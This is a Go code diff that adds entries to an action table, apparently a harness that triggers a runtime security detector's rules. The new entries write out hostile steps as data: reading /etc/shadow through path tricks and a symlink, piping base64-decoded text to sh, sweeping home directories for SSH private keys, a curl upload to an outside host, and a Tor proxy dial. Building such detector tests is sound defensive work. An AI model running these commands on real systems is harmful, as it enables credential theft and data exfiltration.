@@ -76,6 +76,22 @@ var actions = []action{
 	{"bind-shell", "listener", bindShell},
 	{"code-tamper", "sensitive-write", func(r *recorder, _ event) { r.open("/var/task/bootstrap", os.O_WRONLY) }},
 	{"network-tool", "network-tool", networkTool},
+	{"environ-dirfd", "environ-read", environDirfd},
+	{"environ-cwd", "environ-read", environCwd},
+	{"shadow-dotdot", "credential-read", func(r *recorder, _ event) { r.open("/etc/../etc/./shadow", os.O_RDONLY) }},
+	{"shadow-symlink", "credential-read", shadowSymlink},
+	{"setuid-file", "setuid-bit", setuidFile},
+	{"preload", "loader-hijack", preload},
+	{"fork-storm", "process-storm", forkStorm},
+	{"decode-exec", "decode-exec", func(r *recorder, _ event) { r.exec("/bin/sh", "-c", "echo ZXhpdCAwCg== | base64 -d | sh") }},
+	{"key-sweep", "credential-sweep", func(r *recorder, _ event) {
+		r.exec("/usr/bin/find", "/root", "/home", "-maxdepth", "3", "-name", "id_rsa*")
+	}},
+	{"upload", "exfil-upload", func(r *recorder, _ event) {
+		r.exec("/usr/bin/curl", "-sS", "-m", "2", "-T", "/etc/hostname", "http://"+outside+"/up")
+	}},
+	{"tor-proxy", "anonymity-network", func(r *recorder, _ event) { r.dial("tcp", "127.0.0.1:9050") }},
+	{"hidden-dir", "hidden-file", hiddenDir},
 	// No built-in rule covers egress to a granted host: the alert is the
 	// profile's, once a learned profile never saw the destination.
 	{"egress", "", egress},
